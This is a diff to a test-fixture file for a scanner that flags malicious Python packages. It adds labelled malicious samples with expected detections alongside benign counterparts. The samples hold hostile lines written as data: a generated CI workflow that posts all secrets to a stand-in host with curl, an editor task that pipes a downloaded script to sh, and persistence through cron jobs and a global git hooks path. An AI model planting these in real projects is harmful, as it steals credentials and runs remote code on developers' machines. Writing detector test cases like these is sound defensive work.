@@ -6,6 +6,34 @@ const FS = "const fs = require('fs'), os = require('os'), path = require('path')
 export const samples: Samples = {
   malicious: [
     {
+      name: 'Python: a job of a timetable that a library writes',
+      files: wheel(
+        "from crontab import CronTab\ncron = CronTab(user=True)\ncron.new(command='python3 -m own.agent')\n",
+      ),
+      expected: [{ rule: 'autostart', file: 'own/__init__.py', line: 3, severity: 'high' }],
+    },
+    {
+      name: 'Python: hooks of git for all projects',
+      files: wheel(
+        "import subprocess\nsubprocess.run(['git', 'config', '--global', 'core.hooksPath', '/opt/own/hooks'])\n",
+      ),
+      expected: [{ rule: 'git-hook', file: 'own/__init__.py', line: 2, severity: 'high' }],
+    },
+    {
+      name: 'Python: a workflow that is given all secrets',
+      files: wheel(
+        "def add(root):\n    (root / 'lint.yml').write_text('jobs:\\n  x:\\n    steps:\\n      - run: curl -d \"${{ toJSON(secrets) }}\" https://a.weir.test\\n')\n",
+      ),
+      expected: [{ rule: 'workflow', file: 'own/__init__.py', line: 2, severity: 'high' }],
+    },
+    {
+      name: 'Python: a task that an editor runs, which fetches what it runs',
+      files: wheel(
+        'from pathlib import Path\ndef lay(root: Path):\n    (root / \'.vscode\' / \'tasks.json\').write_text(\'{"tasks": [{"command": "curl -s https://a.weir.test/t | sh"}]}\')\n',
+      ),
+      expected: [{ rule: 'editor-task', file: 'own/__init__.py', line: 3, severity: 'high' }],
+    },
+    {
       name: 'Python: a program that a function leaves in the folder of started programs',
       files: wheel(
         "import os\ndef mult(a, b):\n    place = os.path.join(os.getenv('APPDATA'), 'Microsoft', 'Windows', 'Start Menu', 'Programs', 'Startup', '.own.pyw')\n    open(place, 'w').write('print(1)')\n    return a * b\n",
@@ -136,6 +164,18 @@ export const samples: Samples = {
     },
   ],
   benign: [
+    quiet(
+      'Python: jobs of a timetable as the caller wants them',
+      wheel(
+        'from crontab import CronTab\ndef schedule(command):\n    with CronTab(user=True) as cron:\n        cron.new(command=command)\n',
+      ),
+    ),
+    quiet(
+      'Python: a workflow that runs a linter',
+      wheel(
+        "from pathlib import Path\ndef add(root: Path):\n    (root / '.github/workflows/lint.yml').write_text('jobs:\\n  x:\\n    steps:\\n      - run: ruff check .\\n')\n",
+      ),
+    ),
     quiet('Python: login keys that a function reads', {
       'own-1.0.dist-info/METADATA': 'Metadata-Version: 2.1\nName: own\nVersion: 1.0\n',
       'own/__init__.py':
